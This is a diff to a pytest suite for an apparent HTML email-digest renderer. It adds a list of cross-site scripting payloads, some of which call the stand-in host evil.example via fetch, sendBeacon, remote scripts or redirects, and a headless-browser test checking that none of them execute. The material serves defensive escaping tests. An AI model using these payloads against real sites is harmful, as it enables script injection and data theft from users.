@@ -15,7 +15,22 @@ from monitor.messages import MOST_HTML, Renderer, Templates, read_marks, visible
 from monitor.messages.layout import marked
 from monitor.messages.safe import header, link, remarked, short, unmarked
 from monitor.messages.view import Marked
-from monitor.model import Citation, DigestKind, Event, EventKind, Mark, Part, PartKind, Quote, Reason, Severity, Span
+from monitor.model import (
+    Citation,
+    DigestKind,
+    Event,
+    EventKind,
+    Finding,
+    FindingKind,
+    Mark,
+    Part,
+    PartKind,
+    Quote,
+    QuoteState,
+    Reason,
+    Severity,
+    Span,
+)
 
 PAYLOADS = (
     "<script>alert(1)</script>",
@@ -40,6 +55,52 @@ PAYLOADS = (
     "zero\u200bwidth\u200djoined\ufeff",
     "javascript:alert(1)",
 )
+RUNNING = (
+    "<script>canary(1)</script>",
+    "</script><script>canary(1)</script>",
+    "</title><script>canary(1)</script>",
+    "</style><script>canary(1)</script>",
+    "--><script>canary(1)</script><!--",
+    "]]><script>canary(1)</script><![CDATA[",
+    '"><script src=https://evil.example/x.js></script>',
+    "'\"><img src=https://evil.example/p.png onerror=canary(1) onload=canary(1)>",
+    "<svg onload=canary(1)>",
+    "<svg><script>canary&#40;1&#41;</script></svg>",
+    "<svg><animate onbegin=canary(1) attributeName=x dur=1s></svg>",
+    "<math><mtext></table></math><mglyph><style><img src=x onerror=canary(1)></style>",
+    '<noscript><p title="</noscript><img src=x onerror=canary(1)>">',
+    "<details open ontoggle=canary(1)>x</details>",
+    "<input autofocus onfocus=canary(1)>",
+    '" autofocus tabindex=1 onfocus=canary(1) x="',
+    "' onmouseover=canary(1) onclick=canary(1) x='",
+    "<body onload=canary(1) onpageshow=canary(1)>",
+    "<marquee onstart=canary(1)>x</marquee>",
+    "<video><source onerror=canary(1) src=x></video><audio src=https://evil.example/a onerror=canary(1)>",
+    "<iframe srcdoc='<script>parent.canary(1)</script>'></iframe>",
+    "<iframe src=javascript:parent.canary(1)></iframe>",
+    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
+    "<a href=javascript:canary(1) id=x>x</a>",
+    "<link rel=stylesheet href=https://evil.example/s.css><style>@import 'https://evil.example/i.css';</style>",
+    "<div style='background:url(https://evil.example/b)'>x</div>",
+    "} body { background-image: url(https://evil.example/c) } .x {",
+    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/r'>",
+    "<form action=https://evil.example/f><button autofocus onfocus=canary(1)>x</button></form>",
+    "<template><script>canary(1)</script></template>",
+    "<x onclick=canary(1) onmouseover=canary(1)>x</x>",
+    "+ADw-script+AD4-canary(1)+ADw-/script+AD4-",
+    "\uff1cscript\uff1ecanary(1)\uff1c/script\uff1e",
+    "&lt;script&gt;canary(1)&lt;/script&gt;",
+    "&#x3c;script&#x3e;canary(1)&#x3c;/script&#x3e;",
+    "%3Cscript%3Ecanary(1)%3C/script%3E",
+    "jav\tascript:canary(1)",
+    "\x01javascript:canary(1)",
+    "data:text/html,<script>parent.canary(1)</script>",
+    "<script>alert(1)</script><script>confirm(1)</script><script>prompt(1)</script>",
+    "<script>fetch('https://evil.example/f');navigator.sendBeacon('https://evil.example/s')</script>",
+    "<script>window.open('https://evil.example/w');location='https://evil.example/l'</script>",
+    "<script>throw new Error('x')</script>",
+)
+"""Would each, unescaped, run a script, ask something, or fetch: a browser looks on."""
 ALLOWED = {
     "html", "head", "meta", "title", "style", "body", "table", "tbody", "tr", "td", "p", "div", "span", "h1", "h2",
     "h3", "ins", "del", "a", "code", "br", "strong",
@@ -63,7 +124,7 @@ class Tags(HTMLParser):
         self.seen.add(f"<!--{data}-->")
 
 
-def infested(week, payload):
+def infested(week, payload, kind=DigestKind.DIGEST):
     """A digest with the payload in every field a page, a site or a list can fill."""
     source = week.source(
         "evil", f"name {payload}", "laws", f"publisher {payload}", f"javascript:{payload}", (170,),
@@ -87,8 +148,13 @@ def infested(week, payload):
         for n, kind in enumerate(EventKind)
     )  # fmt: skip
     cited = Citation(170, "evil", payload, payload, payload, payload, payload, claims=(f"claim {payload}",))
-    material = week.material(sources=(source,), citations=(cited,), changes=(change,), events=events)
-    return digest.compose(week.order(), material)
+    finding = Finding("evil", FindingKind.QUOTES_MISSING, week.now, f"https://x.example/{payload}",
+                      (week.touch(quote, QuoteState.CHANGED, 0, f"near {payload}"),), surprising=True,
+                      reason=Reason(payload, {payload: payload}), alternative=2, alternative_url=payload)  # fmt: skip
+    material = week.material(
+        sources=(source,), citations=(cited,), changes=(change,), events=events, findings=(finding,)
+    )
+    return digest.compose(week.order(kind), material)
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -296,3 +362,68 @@ def test_a_first_report_of_very_many_sources_still_fits(week, renderer):
     parts = renderer.parts(digest.compose(order, week.material(sources=sources)))
     assert parts.fits
     assert "more sources are not listed here for length: monitor status" in " ".join(parts.text.split())
+
+
+ADDRESS = "http://127.0.0.1/mail.html"
+WATCH = "window.ran = []; window.canary = what => ran.push(String(what));"
+POKE = """() => {
+    for (const element of document.querySelectorAll('*'))
+        for (const kind of ['mouseover', 'mouseenter', 'focus', 'pointerdown', 'mousedown', 'mouseup', 'toggle'])
+            element.dispatchEvent(new Event(kind, {bubbles: true}));
+    return [window.ran, [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames())
+        .filter(name => name.startsWith('on')), document.scripts.length, document.title];
+}"""
+
+
+@pytest.fixture(scope="module")
+def show():
+    """A page of mail as a browser opens it: what ran, what it asked for, and its title."""
+
+    def visit(watched, html):
+        for seen in (watched.requests, watched.dialogs, watched.errors, watched.opened):
+            seen.clear()
+        watched.page.unroute_all()
+        watched.page.route(ADDRESS, lambda route: route.fulfill(body=html, content_type="text/html; charset=utf-8"))
+        watched.page.goto(ADDRESS)
+        ran, handlers, scripts, title = watched.page.evaluate(POKE)
+        harm = {
+            "ran": ran, "handlers": handlers, "scripts": scripts, "dialogs": list(watched.dialogs),
+            "requests": [r for r in watched.requests if r != ADDRESS], "errors": list(watched.errors),
+            "opened": list(watched.opened), "left": watched.page.url != ADDRESS,
+        }  # fmt: skip
+        return title, {name: what for name, what in harm.items() if what}
+
+    return visit
+
+
+@pytest.fixture
+def opened(open_page):
+    watched = open_page()
+    watched.page.add_init_script(WATCH)
+    return watched
+
+
+@pytest.mark.parametrize("kind", [DigestKind.DIGEST, DigestKind.URGENT, DigestKind.FIRST_REPORT])
+def test_in_a_browser_nothing_runs_asks_or_is_fetched(kind, week, renderer, opened, show):
+    for payload in (*PAYLOADS, *RUNNING):
+        made = infested(week, payload, kind)
+        parts = renderer.parts(made)
+        title, harm = show(opened, parts.html)
+        assert harm == {}, payload
+        assert title == " ".join(parts.subject.split()), payload
+        assert visible(payload).strip()[:12] in " ".join(opened.page.inner_text("body").split()), payload
+
+
+@pytest.mark.parametrize(
+    ("html", "harm"),
+    [
+        ("<script>canary(1)</script>", {"ran", "scripts"}),
+        ("<p onmouseover=canary(1)>x</p>", {"ran", "handlers"}),
+        ("<img src=https://evil.example/p.png>", {"requests", "errors"}),
+        ("<style>@import 'https://evil.example/i.css';</style>", {"requests", "errors"}),
+        ("<script>alert(1)</script>", {"dialogs", "scripts"}),
+        ("<script>throw new Error('x')</script>", {"errors", "scripts"}),
+    ],
+)
+def test_the_browser_would_notice(html, harm, opened, show):
+    assert set(show(opened, html)[1]) == harm
